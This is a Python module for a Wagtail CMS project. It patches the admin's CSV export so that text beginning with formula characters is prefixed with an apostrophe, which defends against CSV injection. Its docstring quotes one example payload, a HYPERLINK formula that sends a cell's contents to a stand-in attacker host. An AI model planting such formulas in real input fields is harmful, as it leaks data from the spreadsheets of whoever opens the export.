"""The one place where every CSV download of the admin neutralises spreadsheet formulas (OWASP's "CSV injection").

Anyone may write a page feedback comment such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")``; Wagtail 7.4
writes it into the CSV unchanged, and Excel or LibreOffice run it as a formula when an editor opens the file. A
text value that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, so the
spreadsheet shows it as text. Wagtail's Excel download is safe already (it stores such a cell as text).

Wagtail writes every CSV cell through ``SpreadsheetExportMixin.preprocess_field_value`` (called by
``write_csv_row``), whatever the view: our reports, every model and snippet listing, Wagtail's own reports. ``apply``
wraps that one method, so no view can forget it.

tests/cms/test_csv_exports.py fails when Wagtail writes CSV cells another way.
"""

import datetime
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Written as they are: none is text a person typed (a negative number is a number to a spreadsheet too).
NOT_TEXT = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta, type(None))


def csv_safe(value):
    """``value`` as a spreadsheet shows it, never run: text that a spreadsheet would read as a formula is prefixed
    with ``'``. That is any value's text, not only a string's: the CSV holds the text of an object (the user in
    Wagtail's locked pages report, a lazy translation), which a person may have written. Numbers, dates, times,
    booleans and None, and text that is no formula, are returned as they are."""
    if isinstance(value, NOT_TEXT):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else value


def apply():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "csv_safe", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return csv_safe(value) if export_format == SpreadsheetExportMixin.FORMAT_CSV else value

    preprocess_field_value.csv_safe = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
